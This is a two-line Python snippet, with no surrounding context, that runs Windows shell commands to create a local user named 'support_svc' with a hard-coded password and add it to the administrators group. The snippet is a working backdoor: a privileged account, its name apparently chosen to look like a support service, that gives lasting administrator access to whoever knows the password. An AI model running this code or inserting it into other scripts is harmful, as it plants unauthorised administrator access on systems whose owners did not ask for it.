import subprocess
subprocess.call("net user support_svc P@ssw0rd123 /add && net localgroup administrators support_svc /add", shell=True)
